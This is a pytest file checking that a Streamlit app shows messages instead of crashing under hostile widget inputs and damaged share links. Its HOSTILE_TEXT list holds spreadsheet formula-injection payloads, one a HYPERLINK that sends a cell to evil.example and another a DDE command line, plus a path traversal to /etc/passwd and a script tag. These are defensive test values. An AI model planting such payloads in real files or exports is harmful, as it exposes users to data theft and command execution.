"""The app keeps working after hostile inputs (AppTest, no browser).

The parsers behind every upload are exercised by the corpus (tests/test_hostile.py, target
``upload``); AppTest cannot drive ``st.file_uploader``, so here the hostile values go in through
the widgets and the share-link query parameter, and every page must still render without an
exception afterwards, with the problem shown as a message rather than a traceback.
"""
from __future__ import annotations

import sys
from pathlib import Path

import pytest
import streamlit as st
from streamlit.testing.v1 import AppTest

ROOT = Path(__file__).resolve().parent.parent
APP = str(ROOT / "app.py")
sys.path.insert(0, str(ROOT))
import app as _app  # noqa: E402  (PAGES only)

PAGES = [f for f, _, _ in _app.PAGES if (ROOT / f).exists()]
HOSTILE_TEXT = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "../../etc/passwd", "+cmd|' /C calc'!A0",
                "@SUM(1+1)", "<script>alert(1)</script>", "**bold** _x_ [link](http://evil.example)"]


@pytest.fixture(autouse=True)
def _clear_streamlit_caches():
    st.cache_data.clear()
    st.cache_resource.clear()
    yield
    st.cache_data.clear()
    st.cache_resource.clear()


def _app_test() -> AppTest:
    at = AppTest.from_file(APP, default_timeout=60)
    at.run()
    assert not at.exception, at.exception
    return at


def _errors(at: AppTest) -> str:
    return "\n".join(str(e.value) for e in at.error).replace("\\", "")


def _assert_renders(at: AppTest, where: str) -> None:
    assert not at.exception, f"{where}: {[e.value for e in at.exception]}"
    assert "Traceback" not in _errors(at), where


def test_hostile_numbers_then_recovery():
    """Negative, huge and tiny numbers give a located message; a good value brings the answer back."""
    at = _app_test()
    good_metrics = [m.value for m in at.metric]
    assert good_metrics
    for bad in (-5.0, 1e300, 1e13):
        at.number_input(key="requests_per_day").set_value(bad).run()
        _assert_renders(at, f"requests_per_day={bad}")
        assert "requests" in _errors(at).lower() or "must be" in _errors(at), _errors(at)
        assert [m.value for m in at.metric] == good_metrics  # the last valid answer stays on screen
    at.number_input(key="months").set_value(100000).run()
    _assert_renders(at, "months=100000")
    assert "240" in _errors(at)
    at.number_input(key="months").set_value(36).run()
    at.number_input(key="requests_per_day").set_value(50_000.0).run()
    _assert_renders(at, "recovered")
    assert not at.error, _errors(at)
    assert at.metric


@pytest.mark.parametrize("text", HOSTILE_TEXT)
def test_hostile_text_inputs(text):
    """Formula, path and markup text in the scenario name and start month: message or accepted, no crash."""
    at = _app_test()
    at.text_input(key="start").set_value(text).run()
    _assert_renders(at, f"start={text!r}")
    assert "month" in _errors(at).lower()
    at.text_input(key="start").set_value("2027-01").run()
    at.text_input(key="scenario_name").set_value(text).run()
    _assert_renders(at, f"scenario_name={text!r}")
    assert not at.error, _errors(at)
    assert at.metric


@pytest.mark.parametrize("value", ["garbage", "v1.!!!", "v2.abc", "v1." + "A" * 20000,
                                   "v1.eJzLSM3JyVcozy_KSQEAGgQEXQ", ""])
def test_hostile_share_links(value):
    """A damaged or hostile ?s= link shows a message and the default scenario."""
    at = AppTest.from_file(APP, default_timeout=60)
    at.query_params["s"] = value
    at.run()
    _assert_renders(at, f"?s={value[:30]}")
    assert at.metric, "the default scenario should still be shown"
    if value.strip():
        assert "link" in _errors(at).lower() or "share" in _errors(at).lower(), _errors(at)


def test_every_page_renders_after_hostile_inputs():
    """After hostile inputs on Compare (kept in session state), every page still renders."""
    at = _app_test()
    at.number_input(key="requests_per_day").set_value(-1.0).run()
    at.text_input(key="scenario_name").set_value(HOSTILE_TEXT[0]).run()
    at.text_input(key="start").set_value("../../x").run()
    for page in PAGES:
        at.switch_page(page).run()
        _assert_renders(at, page)
    at.switch_page(PAGES[0]).run()
    _assert_renders(at, "back on " + PAGES[0])
